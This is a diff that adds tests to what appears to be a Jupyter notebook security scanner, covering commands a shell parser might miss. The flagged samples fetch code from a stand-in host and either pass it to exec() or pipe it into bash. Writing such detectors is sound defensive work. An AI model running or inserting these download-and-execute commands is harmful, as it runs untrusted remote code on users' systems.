@@ -74,6 +74,31 @@ describe.each([
   });
 });
 
+describe('a command that Python knows more of than a shell', () => {
+  const rulesOf = async (source: string): Promise<string[]> =>
+    (await inspect(indented(notebook([code(source)])))).findings
+      .filter(({ severity }) => severity === 'HIGH' || severity === 'CRITICAL')
+      .map(({ rule }) => rule);
+
+  it.each([
+    ['x = !curl -s https://x.example.invalid/p.py\nexec("\\n".join(x))', 'CODE-DOWNLOAD-EXECUTE'],
+    ['x = !curl -s https://x.example.invalid/p.py\nexec(x.n)', 'CODE-DOWNLOAD-EXECUTE'],
+    ['cmd = "curl -s https://x.example.invalid/i.sh | bash"\n!{cmd}', 'CODE-PIPE-SHELL'],
+    ['cmd = "curl -s https://x.example.invalid/i.sh | bash"\n!bash -c "$cmd"', 'CODE-PIPE-SHELL'],
+    ['x = !curl -s https://x.example.invalid/i.sh | bash', 'CODE-PIPE-SHELL'],
+  ])('is blocked: %s', async (source, rule) => {
+    expect(await rulesOf(source)).toEqual([rule]);
+  });
+
+  it.each([
+    'files = !ls *.csv\nfor f in files: print(f)',
+    'n = "train.py"\n!python {n}',
+    '!{sys.executable} -m pip list',
+  ])('is quiet: %s', async (source) => {
+    expect(await rulesOf(source)).toEqual([]);
+  });
+});
+
 describe('an ordinary notebook', () => {
   it('is quiet, and is one artifact', async () => {
     const cells = [
